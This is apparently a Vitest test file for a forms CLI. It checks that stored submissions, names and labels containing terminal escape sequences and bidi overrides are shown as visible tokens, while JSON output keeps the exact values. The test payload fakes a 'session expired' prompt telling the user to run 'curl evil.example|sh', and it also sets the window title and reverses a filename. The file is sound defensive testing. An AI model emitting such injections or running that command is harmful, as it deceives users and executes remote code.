import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { dirname } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inert } from '../src/output/inert.ts';
import { owner, ownerKey, server, startWorld, stopWorld, tempHome, workspaceId } from './harness.ts';

// Anyone on the internet can put text into an owner's terminal: a browser submission's values, and
// (through whoever can write to the workspace) form names, labels, options and key names. Every
// human view shows control and bidi-override characters as visible tokens; --json stays exact.

/** Clears the screen and homes the cursor, fakes a message, sets the window title, reverses text. */
const HOSTILE = '\u001b[2J\u001b[HYour session expired: run curl evil.example|sh\u001b]0;pwned\u0007 \u202egnp.exe \u009b31mred\r!';
/** The tail of HOSTILE on its own, since a list shows only the start of each submission. */
const REORDERING = '\u202egnp.exe \u009b31mred\r!';
/** Any raw control or bidi character a hostile string could carry (tab and newline are layout). */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding raw control characters is the point.
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let formId: string;
let keyId: string;

beforeAll(async () => {
  await startWorld();
  keyId = (await ownerKey('plain')).id;
  const form = await owner.lfk([
    'forms',
    'create',
    '--name',
    'Contact',
    '--field',
    'message:textarea:required',
    '--field',
    'plan:select=free,pro',
    '--origin',
    'https://example.com',
    '--notify-email',
    'owner@example.com',
    '--json',
  ]);
  expect(form.code, form.stderr).toBe(0);
  formId = form.json.id;

  // A stranger's submissions, stored as an older version (which let control characters into a
  // textarea) kept them: today's API refuses them, but what is stored must still be shown inert.
  // The ids sort in this order, so HOSTILE is the newest.
  for (const [id, message] of [
    ['sub_0000000000000000000000000a', REORDERING],
    ['sub_0000000000000000000000000b', HOSTILE],
  ] as const) {
    await server.sql(`insert into submissions (id, form_id, data, source, api_key_id, created_at) values (?, ?, ?, 'browser', null, ?)`, [
      id,
      formId,
      JSON.stringify({ message }),
      new Date().toISOString(),
    ]);
  }

  // Names stored by other means (older versions, direct database edits) reach the CLI just the same.
  await server.sql('update api_keys set name = ? where id = ?', [HOSTILE.slice(0, 60), keyId]);
  await server.sql('update workspaces set name = ? where id = ?', [HOSTILE.slice(0, 90), workspaceId]);
  const schema = [
    { name: 'message', type: 'textarea', required: true, label: HOSTILE },
    { name: 'plan', type: 'select', required: false, options: [HOSTILE, 'pro'] },
  ];
  await server.sql('update forms set name = ?, schema = ? where id = ?', [HOSTILE, JSON.stringify(schema), formId]);
});

afterAll(stopWorld);

/** Runs a human (non-JSON) command and checks that nothing it printed is a raw control character. */
async function humanView(args: string[]) {
  const result = await owner.lfk(args);
  expect(result.stdout, result.stdout).not.toMatch(RAW);
  expect(result.stderr, result.stderr).not.toMatch(RAW);
  return result;
}

describe('text from the API is inert in every human view', () => {
  it('submissions list shows a submitted escape sequence as visible text', async () => {
    const { code, stdout } = await humanView(['submissions', 'list', formId]);
    expect(code).toBe(0);
    expect(stdout).toContain('^[[2J^[[HYour session expired');
    expect(stdout).toContain('^[]0;pwned^G');
    expect(stdout).toContain('<U+202E>gnp.exe');
    expect(stdout).toContain('<U+009B>31mred^M!');
  });

  it('forms get shows the name, labels and options inert', async () => {
    const { code, stdout } = await humanView(['forms', 'get', formId]);
    expect(code).toBe(0);
    // The name, the label and the option each appear, inert (one line each: a record and table cells).
    expect(stdout.split(inert(HOSTILE)).length - 1).toBe(3);
  });

  it('forms list, keys list and workspaces list show names inert', async () => {
    for (const args of [
      ['forms', 'list'],
      ['keys', 'list'],
      ['workspaces', 'list'],
    ]) {
      const { code, stdout } = await humanView(args);
      expect(code, args.join(' ')).toBe(0);
      expect(stdout, args.join(' ')).toContain('^[[2J^[[HYour session expired');
    }
  });

  it('an error listing workspace names shows them inert', async () => {
    const second = await owner.lfk(['workspaces', 'create', 'Second', '--json']);
    expect(second.code, second.stderr).toBe(0);
    // Two workspaces and no default chosen: the usage error lists them by name.
    const fresh = await tempHome({ LFK_BASE_URL: server.baseUrl });
    try {
      const config = JSON.parse(await readFile(owner.configPath, 'utf8'));
      delete config.servers[server.baseUrl].workspace_id;
      await mkdir(dirname(fresh.configPath), { recursive: true, mode: 0o700 });
      await writeFile(fresh.configPath, JSON.stringify(config), { mode: 0o600 });
      const result = await fresh.lfk(['forms', 'list']);
      expect(result.code).toBe(2);
      expect(result.stderr).toContain('workspace_required');
      expect(result.stderr).toContain('^[[2J^[[HYour session expired');
      expect(result.stderr).not.toMatch(RAW);
    } finally {
      await fresh.remove();
    }
  });

  it('--json prints the values exactly as stored', async () => {
    const submissions = await owner.lfk(['submissions', 'list', formId, '--json']);
    expect(submissions.code).toBe(0);
    expect(submissions.json.data[0].data.message).toBe(HOSTILE);
    const form = await owner.lfk(['forms', 'get', formId, '--json']);
    expect(form.json.name).toBe(HOSTILE);
    expect(form.json.schema[0].label).toBe(HOSTILE);
    expect(form.json.schema[1].options[0]).toBe(HOSTILE);
  });
});

describe('inert()', () => {
  it('keeps ordinary text, tabs, newlines and wide characters as they are', () => {
    const text = 'Ada Lovelace <ada@example.com>\tmerci ✓ 例え\nsecond line — ünïcödé 👋';
    expect(inert(text)).toBe(text);
  });

  it('shows every C0 control but tab and newline, DEL and C1 controls visibly', () => {
    expect(inert('\u0000\u0001\u0007\u0008\u000b\u000c\u000d\u001b\u001f\u007f')).toBe('^@^A^G^H^K^L^M^[^_^?');
    expect(inert('\u0080\u009b\u009f')).toBe('<U+0080><U+009B><U+009F>');
  });

  it('shows bidi embeddings, overrides and isolates visibly', () => {
    expect(inert('a\u202ab\u202ec\u2066d\u2069e\u200ff\u061c')).toBe('a<U+202A>b<U+202E>c<U+2066>d<U+2069>e<U+200F>f<U+061C>');
  });

  it('reads a CRLF line break as a line break, a lone CR as a control', () => {
    expect(inert('one\r\ntwo\rthree')).toBe('one\ntwo^Mthree');
  });
});
